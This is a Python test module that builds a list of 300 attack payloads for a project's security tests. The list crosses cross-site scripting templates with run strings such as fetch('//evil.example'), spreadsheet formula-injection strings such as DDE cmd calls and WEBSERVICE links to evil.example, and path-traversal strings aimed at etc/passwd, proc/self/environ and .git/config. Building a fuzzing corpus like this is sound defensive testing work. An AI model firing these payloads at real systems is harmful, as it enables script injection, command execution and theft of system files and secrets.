"""300 payloads that try to run: scripts, formulas, paths. Written for this project."""

from __future__ import annotations

from itertools import product

_RUN = ("alert(1)", "alert`1`", "window.ran=1", "fetch('//evil.example')", "document.title='ran'")
_SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "</title><script>{}</script>",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}" autofocus>x</a>',
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<math><mtext><img src=x onerror={}>",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "<style>@import 'data:,{}'</style>",
    "<base href='//evil.example/{}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<form action='javascript:{}'><button>x",
    "<link rel=stylesheet href='data:text/css,{}'>",
    "<object data='javascript:{}'></object>",
    "--><script>{}</script><!--",
    "</textarea><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<div style='background:url(javascript:{})'>",
    "\u2028<script>{}</script>",
    "<scr\x00ipt>{}</script>",
)
_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", " =", "\uff1d", "|", "%0A=")
_CALLS = (
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', 'IMPORTXML("//evil","//a")',
    'WEBSERVICE("//evil")', "SUM(A1:A9)", 'DDE("cmd";"/C calc";"x")', "2+5+cmd|'/C x'!A",
)  # fmt: skip
_PATHS = ("../", "..\\", "%2e%2e%2f", "....//", "/", "..%c0%af", "file:///", "\\\\evil\\share\\")
_TARGETS = (
    "etc/passwd", "bothsides.db", "secrets", "windows/win.ini", "proc/self/environ", "a\0.csv",
    "static/../../pyproject.toml", ".git/config", "webui/db.py",
)  # fmt: skip

SCRIPTS = [form.format(code) for form, code in product(_SCRIPTS, _RUN)]
FORMULAS = [before + call for before, call in product(_FORMULAS, _CALLS)]
PATHS = [before * times + target for before, target, times in product(_PATHS, _TARGETS, (1, 4))]
PAYLOADS = [*SCRIPTS, *FORMULAS, *PATHS][:300]
